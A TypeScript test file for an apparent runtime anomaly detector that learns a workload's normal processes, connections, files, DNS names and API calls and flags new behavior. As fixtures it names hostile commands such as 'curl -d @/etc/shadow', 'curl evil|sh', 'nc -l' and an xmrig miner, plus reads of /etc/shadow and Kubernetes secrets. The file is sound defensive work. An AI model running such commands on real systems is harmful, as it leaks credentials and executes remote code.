import type { EventContext } from '@breakwater/model';
import { describe, expect, test } from 'vitest';
import type { Sighting } from '../sighting.ts';
import {
  buildAccept,
  buildCall,
  buildConnect,
  buildDns,
  buildExec,
  buildFile,
  buildListen,
  SUBJECT,
  TIME,
} from '../testing/build-sighting.ts';
import { Behavior, createBaseline, learnAll } from './behavior.ts';
import { removeEntries } from './change-entries.ts';
import { lockBaseline } from './life.ts';

type Verdict = NonNullable<EventContext['baseline']>['verdict'];

const learn = (...sightings: readonly Sighting[]) => learnAll(createBaseline(SUBJECT, TIME), sightings);
const WEB: EventContext['peer'] = { kind: 'workload', namespace: 'shop', name: 'Deployment/db' };
const named = (...names: string[]): EventContext['peer'] => ({ kind: 'external', names });

const range = (count: number) => Array.from({ length: count }, (_, index) => index);
const letters = (index: number) => [...String(index)].map(digit => 'abcdefghij'[Number(digit)]).join('');

const CASES: readonly (readonly [name: string, learned: readonly Sighting[], judged: Sighting, verdict: Verdict])[] = [
  ['the same again', [buildExec(['sh', '-c', 'ls'])], buildExec(['sh', '-c', 'ls']), 'known'],
  ['another program', [buildExec(['sh'])], buildExec(['nc', '-l']), 'new-path'],
  ['as another user', [buildExec(['sh'])], buildExec(['sh'], { process: { uid: 0 } }), 'new-user'],
  [
    'started by another program',
    [buildExec(['sh'])],
    buildExec(['sh'], { process: { ancestors: [{ id: 'p9', exe: '/usr/bin/java', argv: [], uid: 0 }] } }),
    'new-parent',
  ],
  ['with other arguments', [buildExec(['curl', 'http://a'])], buildExec(['curl', '-d', '@/etc/shadow']), 'new-arguments'],
  ['with another number', [buildExec(['worker', '--pid', '17'])], buildExec(['worker', '--pid', '18']), 'known'],
  [
    'with another password',
    [buildExec(['psql', '--password=hunter2', '-c', 'x'])],
    buildExec(['psql', '--password=correct horse', '-c', 'x']),
    'known',
  ],
  ['with another temporary file', [buildExec(['cat', '/tmp/tmp.aB3dE9xy'])], buildExec(['cat', '/tmp/tmp.Zz9qW1ab']), 'known'],
  [
    'with another uuid',
    [buildExec(['run', '0b5c1f9e-7a52-4a37-9f1e-2f7d3c1a9b10'])],
    buildExec(['run', 'ffffffff-7a52-4a37-9f1e-2f7d3c1a9b11']),
    'known',
  ],
  ['from a folder of its own', [buildExec(['/tmp/aB3dE9xy/run'])], buildExec(['/tmp/Zz9qW1ab/run']), 'known'],
  ['another program of the same temporary folder', [buildExec(['/tmp/run'])], buildExec(['/tmp/xmrig']), 'new-path'],
  ['another version of a program', [buildExec(['/opt/java-17/bin/java'])], buildExec(['/opt/java-21/bin/java']), 'new-path'],
  ['from outside', [buildExec(['sh'])], buildExec(['sh'], { process: { entry: 'exec' } }), 'new-path'],
  [
    'many words in one place',
    range(11).map(index => buildExec(['git', 'clone', letters(index)])),
    buildExec(['git', 'clone', 'zz']),
    'known',
  ],
  [
    'many scripts',
    range(40).map(index => buildExec(['sh', '-c', letters(index)])),
    buildExec(['sh', '-c', 'curl evil|sh']),
    'new-arguments',
  ],
  ['a named wildcard is a name', [buildExec(['sh', '⋯'])], buildExec(['sh', 'x']), 'new-arguments'],
  ['the workload that it talks to', [buildConnect('10.1.0.9', 5432, WEB)], buildConnect('10.1.0.77', 5432, WEB), 'known'],
  ['another port of it', [buildConnect('10.1.0.9', 5432, WEB)], buildConnect('10.1.0.9', 22, WEB), 'new-peer'],
  ['the other direction', [buildConnect('10.1.0.9', 5432, WEB)], buildAccept('10.1.0.9', 5432, WEB), 'new-peer'],
  [
    'another address of a name',
    [buildConnect('1.2.3.4', 443, named('api.example.com.'))],
    buildConnect('5.6.7.8', 443, named('x.example.org', 'api.example.com')),
    'known',
  ],
  [
    'the API server by any address',
    [buildConnect('10.96.0.1', 443, { kind: 'api-server' })],
    buildConnect('172.18.0.2', 443, { kind: 'api-server' }),
    'known',
  ],
  [
    'many names below a domain',
    range(11).map(index => buildConnect('1.2.3.4', 443, named(`${letters(index)}.cdn.example.com`))),
    buildConnect('9.9.9.9', 443, named('zz.cdn.example.com')),
    'known',
  ],
  [
    'many names in the same country',
    range(20).map(index => buildConnect('1.2.3.4', 443, named(`${letters(index)}.co.uk`))),
    buildConnect('9.9.9.9', 443, named('zz.co.uk')),
    'new-peer',
  ],
  ['many hosts of a network', range(17).map(index => buildConnect(`203.0.113.${index}`, 443)), buildConnect('203.0.113.200', 443), 'known'],
  [
    'a few hosts of a network',
    range(16).map(index => buildConnect(`203.0.113.${index}`, 443)),
    buildConnect('203.0.113.200', 443),
    'new-peer',
  ],
  [
    'many hosts of a network of IPv6',
    range(17).map(index => buildConnect(`2001:db8::1:${index}:1`, 443)),
    buildConnect('2001:db8::ff', 443),
    'new-peer',
  ],
  [
    'many interfaces of one network of IPv6',
    range(17).map(index => buildConnect(`2001:db8:0:0:${index}::1`, 443)),
    buildConnect('2001:db8::ff:0:0:1', 443),
    'known',
  ],
  ['another listener', [buildListen(8080)], buildListen(4444), 'new-listener'],
  ['many ports that the kernel gave', range(11).map(index => buildListen(40_000 + index)), buildListen(50_000), 'known'],
  ['the file of another process', [buildFile('/proc/12/environ')], buildFile('/proc/13/environ'), 'known'],
  ['writing what was read', [buildFile('/etc/passwd')], buildFile('/etc/passwd', 'write'), 'new-file'],
  ['many files of a folder', range(51).map(index => buildFile(`/srv/data/${letters(index)}`)), buildFile('/srv/data/zz'), 'known'],
  ['another folder', range(51).map(index => buildFile(`/srv/data/${letters(index)}`)), buildFile('/srv/other/zz'), 'new-file'],
  ['another name', [buildDns('a.example.com.')], buildDns('b.example.com.'), 'new-name'],
  ['pods of a set by their names', [buildDns('db-0.db.shop.svc.cluster.local.')], buildDns('db-2.db.shop.svc.cluster.local.'), 'known'],
  ['another verb', [buildCall('get', 'secrets', 'shop')], buildCall('list', 'secrets', 'shop'), 'new-call'],
  ['in another namespace', [buildCall('get', 'secrets', 'shop')], buildCall('get', 'secrets', 'kube-system'), 'new-call'],
  [
    'a service never stands for all',
    range(30).map(index => buildDns(`${letters(index)}.shop.svc.cluster.local`)),
    buildDns('zz.shop.svc.cluster.local'),
    'new-name',
  ],
];

test.each(CASES)('%s', (_, learned, judged, verdict) => {
  const behavior = new Behavior(learn(...learned));
  expect(behavior.judge(judged)?.verdict).toBe(verdict);
  // Written down and read again it knows the same.
  expect(new Behavior(JSON.parse(JSON.stringify(behavior.toBaseline()))).judge(judged)?.verdict).toBe(verdict);
  behavior.learn(judged);
  expect(behavior.judge(judged)?.verdict).toBe('known');
});

test('says what is new in words, whatever it is called', () => {
  const behavior = new Behavior(lockBaseline(learn(buildExec(['sh'])), 'ann', TIME));
  expect(behavior.judge(buildExec(['/bin/x\n\u001b[2J']))).toStrictEqual({
    state: 'locked',
    coverage: 'partial',
    verdict: 'new-path',
    detail: '/bin/x  [2J was not run before',
  });
  expect(behavior.judge(buildExec(['a'.repeat(5000)]))?.detail).toHaveLength(300);
});

test('what happened around it: what baselines do not speak of, and the runtime on its way in', () => {
  const behavior = new Behavior(learn(buildExec(['sh'])));
  const { event } = buildExec(['runc'], { process: { traits: ['runtime'] } });
  expect([behavior.judge({ event }), behavior.judge({ event: { ...event, type: 'process-exit', exit: { code: 0 } } })]).toStrictEqual([
    undefined,
    undefined,
  ]);
});

test('a container that was seen from its start makes coverage full, one that ran before does not', () => {
  const first = { containerPid: 1 };
  const coverage = [
    buildExec(['app'], { process: { ...first, traits: ['running'] } }),
    buildExec(['app'], { process: { ...first, entry: 'exec' } }),
    buildExec(['app'], { process: first }),
  ].map(sighting => learn(sighting).coverage);
  expect(coverage).toStrictEqual(['partial', 'partial', 'full']);
});

test('a baseline as it is written', () => {
  expect(
    learn(
      buildExec(['sh', '-c', 'ls 1']),
      buildConnect('1.2.3.4', 443, named('api.example.com')),
      buildListen(80),
      buildFile('/etc/shadow'),
      buildDns('api.example.com.'),
    ),
  ).toStrictEqual({
    ...createBaseline(SUBJECT, TIME),
    events: 5,
    pods: ['u1'],
    processes: [
      { path: '/usr/bin/sh', entry: 'init', arguments: [['-c', 'ls #']], users: ['1000'], parents: ['/usr/bin/tini'], firstSeen: TIME },
    ],
    peers: [{ direction: 'egress', protocol: 'tcp', port: '443', kind: 'name', peer: 'api.example.com', firstSeen: TIME }],
    listeners: [{ protocol: 'tcp', port: '80', firstSeen: TIME }],
    files: [{ access: 'read', path: '/etc/shadow', firstSeen: TIME }],
    names: [{ name: 'api.example.com', firstSeen: TIME }],
  });
});

test('what may be a secret is not written down', () => {
  const { processes } = learn(
    buildExec([
      'a',
      '--password=hunter2',
      '--api-key',
      'hunter2',
      'https://ann:hunter2@example.com/x',
      'DB_PASSWORD=hunter2 x',
      'Authorization: Bearer hunter2',
    ]),
    buildExec(['a', `--token=${'x'.repeat(3000)}hunter2`]),
  );
  expect(JSON.stringify(processes)).not.toContain('hunter2');
  expect(processes[0]?.arguments).toStrictEqual([
    ['--password=***', '--api-key', '***', 'https://***@example.com/x', 'DB_PASSWORD=***', 'Authorization: ***'],
    ['--token=***'],
  ]);
});

test('system calls are known once somebody has told of them', () => {
  const tell = (...names: string[]): Sighting => ({ event: { ...buildExec(['x']).event, type: 'syscalls', syscalls: { names } } });
  const behavior = new Behavior(learn(tell('read', 'close')));
  expect([behavior.toBaseline().syscalls, learn(buildExec(['x'])).syscalls]).toStrictEqual([['close', 'read'], undefined]);
  expect(behavior.judge(tell('read'))?.verdict).toBe('known');
  expect(behavior.judge(tell('read', 'ptrace'))).toStrictEqual({
    state: 'learning',
    coverage: 'partial',
    verdict: 'new-syscall',
    detail: 'system calls ptrace were not made before',
  });
});

describe('what somebody took out', () => {
  const known = learn(
    buildExec(['sh']),
    buildConnect('1.2.3.4', 443, named('a.example.com')),
    buildConnect('10.0.0.1', 22),
    buildListen(80),
    buildFile('/etc/shadow'),
    buildDns('a.example.com'),
    buildCall('get', 'secrets', 'shop'),
  );
  const LINES: readonly (readonly [line: string, again: Sighting])[] = [
    ['process init /usr/bin/sh', buildExec(['sh'])],
    ['peer egress tcp 443 name a.example.com', buildConnect('1.2.3.4', 443, named('a.example.com'))],
    ['peer egress tcp 22 address 10.0.0.1', buildConnect('10.0.0.1', 22)],
    ['listener tcp 80', buildListen(80)],
    ['file read /etc/shadow', buildFile('/etc/shadow')],
    ['name a.example.com', buildDns('a.example.com')],
    ['call get secrets shop', buildCall('get', 'secrets', 'shop')],
  ];

  test.each(LINES)('%s is not learned again', (line, again) => {
    const { baseline, unknown } = removeEntries(known, [line, 'process init /no']);
    const behavior = new Behavior(baseline);
    expect([unknown, behavior.learn(again), behavior.judge(again)?.verdict]).toStrictEqual([['process init /no'], false, 'removed']);
    expect(behavior.toBaseline()).toStrictEqual({ ...baseline });
  });
});

test('what does not fit in is counted, and new whenever it comes', () => {
  const behavior = new Behavior(createBaseline(SUBJECT, TIME));
  for (const index of range(1100)) behavior.learn(buildExec([`p${letters(index)}`]));
  const { processes, suppressed } = behavior.toBaseline();
  expect([processes.length, suppressed.processes, behavior.judge(buildExec([`p${letters(1050)}`]))?.verdict]).toStrictEqual([
    1000,
    100,
    'new-path',
  ]);
});
